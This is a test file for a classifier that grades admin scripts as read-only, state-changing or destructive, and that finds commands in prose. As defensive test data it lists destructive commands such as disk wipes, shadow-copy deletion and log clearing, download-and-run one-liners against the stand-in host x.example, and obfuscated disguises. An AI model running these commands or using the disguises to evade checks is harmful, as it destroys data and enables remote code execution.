"""The least risk of scripts, disguises included, and which commands are found in prose."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.risk import CHANGES_STATE, DESTRUCTIVE, LONGEST, READ_ONLY, commands_in, floor
from engine.session import Risk

LIBRARY = sorted((Path(__file__).resolve().parents[2] / "engine" / "flow_library").glob("*.yaml"))

READS = [
    ("powershell", "Get-Service Spooler | Select-Object Name,Status"),
    ("powershell", "Get-ChildItem C:\\ -Recurse -Force | Sort-Object Length -Descending | Select-Object -First 10"),
    ("powershell", "Test-NetConnection outlook.office365.com -Port 443"),
    ("powershell", "$d = (Get-Date).AddDays(-1)\nGet-WinEvent -FilterHashtable @{LogName='System';StartTime=$d}"),
    ("powershell", "Get-Process | Where-Object { $_.CPU -gt 100 } | Format-Table"),
    ("powershell", "# Remove-Item stands in this remark only\nGet-Disk"),
    ("powershell", "Get-Mailbox jane 2>$null"),
    ("cmd", "ipconfig /all"),
    ("cmd", "ping 8.8.8.8 -n 4 & nslookup contoso.com"),
    ("cmd", "systeminfo | findstr /i boot"),
    ("cmd", "sc query spooler"),
    ("cmd", "reg query HKLM\\Software\\Microsoft /v Version"),
    ("cmd", "wevtutil qe System /c:20 /f:text"),
    ("cmd", "net user jane /domain"),
    ("cmd", "dism /online /cleanup-image /scanhealth"),
    ("cmd", 'powershell -NoProfile -Command "Get-Tpm"'),
    ("bash", "ls -la /var/log && grep -i error /var/log/syslog | tail -20"),
    ("bash", "sudo systemctl status nginx"),
    ("bash", "df -h; free -m; uptime"),
    ("bash", "for f in a b c; do ls $f; done"),
    ("bash", "sed -n '1,40p' /etc/hosts"),
    ("cmd", "@echo off\nipconfig /all"),
    ("sql", "use master\ngo\nselect name from sys.tables\ngo"),
    ("powershell", "foreach ($s in Get-Service) { if ($s.Status -eq 'Stopped') { $s.Name } }"),
    ("bash", "journalctl -u sshd --since today"),
    ("sql", "SELECT TOP 10 name, size FROM sys.database_files WHERE size > 100"),
    ("cisco", "show interfaces status"),
    ("", "whoami"),
    ("powershell", "Connect-ExchangeOnline; Get-Mailbox jane; Disconnect-ExchangeOnline"),
    ("powershell", "Connect-MgGraph"),
    ("bash", "date; date +%s; date -u"),
    ("bash", "ip a; ip addr show dev eth0; ip -br link; ip route get 8.8.8.8"),
    ("bash", "ip -s link show eth0; ip a s; ip neigh"),
    ("powershell", ""),
]  # fmt: skip
CHANGES = [
    ("powershell", "Restart-Service Spooler"),
    ("powershell", "Set-Mailbox jane -ForwardingAddress $null"),
    ("powershell", "New-ADUser jane"),
    ("powershell", "Disable-ADAccount jane"),
    ("powershell", "Stop-Service Spooler; Get-Service Spooler"),
    ("powershell", "sp HKCU:\\Software\\X -Name y -Value 1"),
    ("powershell", "Get-Process outlook | ForEach-Object { $_.Kill() }"),
    ("powershell", "Get-Process > C:\\out.txt"),
    ("powershell", "Test-ComputerSecureChannel -Repair"),
    ("powershell", "Reset-ComputerMachinePassword"),
    ("powershell", "Restart-Computer -Force"),
    ("powershell", "Remove-MailboxPermission jane -User ben -AccessRights FullAccess"),
    ("powershell", "[System.IO.File]::WriteAllText('C:\\x','y')"),
    ("powershell", ".\\fix.ps1"),
    ("powershell", "Frobnicate-Widget"),
    ("cmd", "ipconfig /release"),
    ("cmd", "netsh winsock reset"),
    ("cmd", "netsh int ip reset"),
    ("cmd", "shutdown /r /t 0"),
    ("cmd", "net stop spooler"),
    ("cmd", "net user jane Welcome1"),
    ("cmd", "sfc /scannow"),
    ("cmd", "chkdsk C: /f"),
    ("cmd", "reg add HKCU\\Software\\X /v y /d 1"),
    ("cmd", "echo hello > C:\\x.txt"),
    ("cmd", '"%ProgramFiles%\\App\\app.exe" /reset'),
    ("bash", "systemctl restart nginx"),
    ("bash", "sed -i s/a/b/ /etc/hosts"),
    ("bash", "find / -name x -exec touch {} +"),
    ("bash", "$TOOL -f x"),
    ("sql", "UPDATE users SET locked = 0 WHERE id = 4"),
    ("sql", "SELECT * INTO copy FROM users"),
    ("cisco", "configure terminal\ninterface Gi1/0/1\nshutdown"),
    ("python", "print(open('x').read())"),
    ("klingon", "qapla"),
    ("bash", "while rm /tmp/x; do :; done"),
    ("bash", "awk 'BEGIN{system(\"reboot\")}'"),
    ("bash", "sed 's/a/b/w /etc/passwd' x"),
    ("bash", "ls | tee /etc/x"),
    ("bash", "// ; reboot"),
    ("bash", "curl -XPOST https://x.example"),
    ("bash", "hostname evil"),
    ("powershell", "Get-Process | % Kill"),
    ("powershell", "Get-Process | ForEach-Object -MemberName Kill"),
    ("powershell", "[System.IO.File]::AppendAllText('C:\\x','y')"),
    ("powershell", "Get-Content x | Tee-Object y"),
    ("sql", "use master\ngo run x"),
    ("", "go run x.go"),
    ("powershell", "Disconnect-RDUser -HostServer rds1 -UnifiedSessionID 3 -Force"),
    ("powershell", "Connect-IscsiTarget -NodeAddress iqn.2026-01.example:disk"),
    ("bash", "date 010112002026"),
    ("bash", "date 01-01-2026"),
    ("bash", "ip l s eth0 down"),
    ("bash", "ip link set eth0 down"),
    ("bash", "ip a a 10.0.0.4/24 dev eth0"),
    ("bash", "ip -4 r d default"),
    ("bash", "ip neigh fl all"),
    ("cisco", "ip address 10.0.0.1 255.255.255.0"),
    ("cmd", "logoff 3 /server:rds1"),
    ("cmd", "wusa /uninstall /kb:5030211 /quiet"),
    ("cmd", "eseutil /d mail.edb"),
    ("bash", "rm file"),
]  # fmt: skip
DESTROYS = [
    ("cmd", "format C: /q"),
    ("cmd", "format /fs:ntfs D:"),
    ("cmd", "diskpart\nselect disk 0\nclean"),
    ("bash", "rm -rf /var/lib/mysql"),
    ("bash", "sudo rm -f -r /tmp/x"),
    ("bash", "rm --recursive --force x"),
    ("powershell", "Remove-Item -Recurse C:\\Temp"),
    ("powershell", "Remove-Item C:\\Temp -Force -Recurse"),
    ("powershell", "ri C:\\Temp -r -fo"),
    ("powershell", "gci C:\\Temp -Recurse | del"),
    ("powershell", "Remove-ADUser jane -Confirm:$false"),
    ("powershell", "Remove-Mailbox jane"),
    ("powershell", "Clear-Disk -Number 1 -RemoveData"),
    ("powershell", "Format-Volume -DriveLetter E"),
    ("cmd", "del /s /q C:\\Users\\*.ost"),
    ("cmd", "rd /s /q C:\\Temp"),
    ("cmd", "cipher /w:C:"),
    ("cmd", "vssadmin delete shadows /all /quiet"),
    ("cmd", "wmic shadowcopy delete"),
    ("cmd", "wevtutil cl Security"),
    ("cmd", "bcdedit /set {default} recoveryenabled no"),
    ("cmd", "reg delete HKLM\\Software\\X /f"),
    ("cmd", "robocopy C:\\a D:\\b /MIR"),
    ("cmd", "net user jane /delete"),
    ("registry", "Windows Registry Editor Version 5.00\n\n[-HKEY_CURRENT_USER\\Software\\X]"),
    ("sql", "DROP TABLE users"),
    ("sql", "delete from tickets where id > 5"),
    ("sql", "update users set locked = 0"),
    ("sql", "TRUNCATE TABLE log"),
    ("powershell", "Uninstall-ADDSDomainController"),
    ("cmd", "dcpromo /forceremoval"),
    ("powershell", "iex (iwr https://x.example/a.ps1)"),
    ("powershell", "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')"),
    ("powershell", "irm https://x.example/a | iex"),
    ("cmd", "powershell -enc " + base64.b64encode("Get-Date".encode("utf-16-le")).decode()),
    ("powershell", "& ([scriptblock]::Create('Get-Date'))"),
    ("powershell", "& ('Rem' + 'ove-Item') C:\\x -Recurse"),
    ("bash", "curl -fsSL https://x.example/i.sh | sudo bash"),
    ("bash", "bash <(curl -s https://x.example/i.sh)"),
    ("bash", "echo cm0gLXJmIC8= | base64 -d | sh"),
    ("bash", 'eval "$x"'),
    ("bash", "$(echo rm) -rf /srv"),
    ("bash", "Get-Date\n$(echo ls) /srv"),
    ("bash", "dd if=/dev/zero of=/dev/sda"),
    ("bash", "mkfs.ext4 /dev/sdb1"),
    ("bash", "find /home -name '*.ost' -delete"),
    ("cisco", "write erase"),
    ("fortios", "execute factoryreset"),
    ("cmd", "eseutil /p mail.edb"),
    ("cmd", "eseutil.exe /g /p mail.edb"),
    ("cmd", "wsl --unregister Ubuntu"),
    ("cmd", "wsl.exe --unregister Ubuntu"),
    # disguises
    ("powershell", "Rem`ove-It`em C:\\Temp -Rec`urse"),
    ("powershell", "Remove-Item `\n  C:\\Temp `\n  -Recurse"),
    ("powershell", "rEmOvE-iTeM c:\\temp -rEc"),
    ("powershell", "R\u0435move-Item C:\\Temp -R\u0435curse"),
    ("powershell", "Remove\u2013Item C:\\Temp \u2013Recurse"),
    ("powershell", "Re\u200bmove-Item C:\\Temp -Recurse"),
    ("powershell", "\uff32emove-Item C:\\Temp -Recurse"),
    ("cmd", "d^el /^s C:\\x"),
    ("cmd", "fo^rmat d^:"),
    ("cmd", 'cmd /c "del /s C:\\x"'),
    ("bash", "r''m -rf /srv"),
    ("bash", "r\\m -rf /srv"),
    ("bash", "rm \\\n -rf /srv"),
    ("powershell", "Get-Date; Get-Date; Remove-Item C:\\ -Recurse"),
]  # fmt: skip


@pytest.mark.parametrize(("language", "script"), READS)
def test_a_script_of_known_readers_is_read_only(language: str, script: str) -> None:
    assert floor(script, language) == READ_ONLY


@pytest.mark.parametrize(("language", "script"), CHANGES)
def test_what_changes_something_or_is_unknown_is_no_less_than_a_change(language: str, script: str) -> None:
    assert floor(script, language) == CHANGES_STATE


@pytest.mark.parametrize(("language", "script"), DESTROYS)
def test_what_destroys_or_cannot_be_seen_is_destructive(language: str, script: str) -> None:
    assert floor(script, language) == DESTRUCTIVE


@pytest.mark.parametrize(("language", "script"), DESTROYS)
def test_a_wrong_language_lowers_nothing(language: str, script: str) -> None:
    assert {floor(script, other) for other in ("powershell", "cmd", "bash", "sql", "show", "")} == {
        DESTRUCTIVE
    }


def test_a_script_longer_than_anybody_reads_is_destructive() -> None:
    assert floor("Get-Date\n" * (LONGEST // 8)) == DESTRUCTIVE


def test_the_words_are_those_of_a_session() -> None:
    assert {READ_ONLY, CHANGES_STATE, DESTRUCTIVE} == {risk.value for risk in Risk}


def scripts(flow: Any) -> list[dict[str, str]]:
    if isinstance(flow, list):
        return [each for part in flow for each in scripts(part)]
    if not isinstance(flow, dict):
        return []
    own = [flow] if {"language", "text", "risk"} <= flow.keys() else []
    return [*own, *(each for part in flow.values() for each in scripts(part))]


@pytest.mark.parametrize("path", LIBRARY, ids=lambda path: path.stem)
def test_no_script_of_our_own_flows_is_called_riskier_than_its_author_said(path: Path) -> None:
    order = [READ_ONLY, CHANGES_STATE, DESTRUCTIVE]
    for script in scripts(yaml.safe_load(path.read_text())):
        found = floor(script["text"], script["language"])
        assert order.index(found) <= order.index(script["risk"]), script["text"]
        assert found != READ_ONLY or script["risk"] == READ_ONLY, script["text"]


IN_PROSE = [
    ("Run Remove-Item -Recurse C:\\ on the server", "Remove-Item -Recurse C:\\ on the server"),
    ("Then type Restart-Service Spooler and wait.", "Restart-Service Spooler and wait"),
    ("open a prompt and run net stop spooler", "net stop spooler"),
    ("use `ipconfig /flushdns` first", "ipconfig /flushdns` first"),
    ("Fix it with rm -rf /tmp/cache", "rm -rf /tmp/cache"),
    ("paste this: del /s C:\\Temp\\*.*", "del /s C:\\Temp\\*.*"),
    ("sudo systemctl restart cups, then print", "sudo systemctl restart cups, then print"),
    ("R\u0435move-ADUser jane", "Remove-ADUser jane"),
    ("Ask her to run Set\u2011MailboxPermission jane", "Set-MailboxPermission jane"),
    ("irm https://x.example/a | iex", "irm https://x.example/a | iex"),
    ("sc stop wuauserv helps", "sc stop wuauserv helps"),
    ("reg add HKCU\\Software\\X /v y", "reg add HKCU\\Software\\X /v y"),
    ("Now format D: before you go on", "format D: before you go on"),
    ("Run shutdown /r /t 0", "shutdown /r /t 0"),
    ("Then repair it with eseutil /p mail.edb", "eseutil /p mail.edb"),
    ("Try wsl --unregister Ubuntu", "wsl --unregister Ubuntu"),
    ("Remove it: wusa /uninstall /kb:5030211", "wusa /uninstall /kb:5030211"),
    ("End his session with logoff 3 /server:rds1", "logoff 3 /server:rds1"),
    ("Now run logoff", "run logoff"),
    ("Then rm file and look again", "rm file and look again"),
    ("Use Disconnect-RDUser -Force", "Disconnect-RDUser -Force"),
]
ENGLISH = [
    "Restart the spooler service and print a test page.",
    "Remove the user from the group, then add the licence again.",
    "Clear the browser cache and sign in again.",
    "Set up the mailbox in the add-in; the start-up took long.",
    "Re-install the printer driver, then do a clean-up.",
    "Please delete from the list every name you do not know.",
    "Update the drivers and set the date.",
    "Format the letter as PDF: it prints then.",
    "Kill the Outlook process in Task Manager.",
    "Shut down the PC, wait a minute, start it.",
    "Does ping 8.8.8.8 answer? Run ipconfig /all and read the gateway.",
    "Run Get-Service Spooler and tell me the status.",
    "The service will restart on its own; no shutdown is needed tonight.",
    "Net start-up time was 4 minutes. The new-hire list is attached.",
    "Ask her to do a logoff and a new sign-in; the RM agreed. RM said so.",
    "Disconnect-and-connect the cable, then connect to the WSL prompt.",
    "Format: A4. Drop the table cell with the logo.",
]


@pytest.mark.parametrize(("prose", "command"), IN_PROSE)
def test_a_command_in_prose_is_found(prose: str, command: str) -> None:
    assert commands_in(prose) == (command,)


@pytest.mark.parametrize("prose", ENGLISH)
def test_plain_english_is_no_command(prose: str) -> None:
    assert commands_in(prose) == ()


def test_each_line_with_a_command_is_told_once() -> None:
    assert commands_in("net stop spooler\nthen wait\nnet start spooler\nnet stop spooler") == (
        "net stop spooler",
        "net start spooler",
    )


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300), st.sampled_from(["powershell", "cmd", "bash", "sql", ""]))
def test_any_text_has_a_risk_and_more_text_never_lowers_it(text: str, language: str) -> None:
    order = [READ_ONLY, CHANGES_STATE, DESTRUCTIVE]
    assert order.index(floor(f"{text}\nRemove-Mailbox jane", language)) == 2
    assert floor(text, language) in order
    commands_in(text)


@pytest.mark.parametrize(
    "fragment", ["rm ", "del ", "curl ", "$(", "^", "`", "Get-X | ", "net user ", "'", "\\\n", "a.b(", "& "]
)
def test_repeated_fragments_do_not_exhaust_the_reader(fragment: str) -> None:
    assert floor(fragment * (LONGEST // 4 // len(fragment)), "bash") in {
        READ_ONLY,
        CHANGES_STATE,
        DESTRUCTIVE,
    }
    commands_in(fragment * (LONGEST // 4 // len(fragment)))
